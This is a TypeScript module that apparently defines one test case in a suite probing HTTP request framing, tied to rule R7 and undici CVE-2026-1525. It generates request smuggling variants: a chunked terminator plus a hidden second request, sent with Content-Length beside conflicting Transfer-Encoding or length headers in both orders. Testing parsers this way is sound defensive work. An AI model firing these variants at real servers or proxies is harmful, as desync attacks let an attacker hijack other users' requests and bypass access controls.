import type { Attack } from '../attack.ts'
import { hidden, tryFraming } from '../framing.ts'
import { codings, lengths, published } from '../gadgets.ts'

export const attack: Attack = {
  title: 'whatever stands beside Content-Length, what comes out is one request for every reader',
  rule: 'R7',
  published: 'undici CVE-2026-1525',
  async run(ground) {
    const body = `0\r\n\r\n${hidden(ground)}`
    const length = `Content-Length: ${body.length}`
    return tryFraming(ground, [
      ...[...codings(), ...lengths(body.length), ...published()].flatMap((odd) => [
        { lines: `${length}\r\n${odd}`, body },
        { lines: `${odd}\r\n${length}`, body },
      ]),
    ])
  },
}
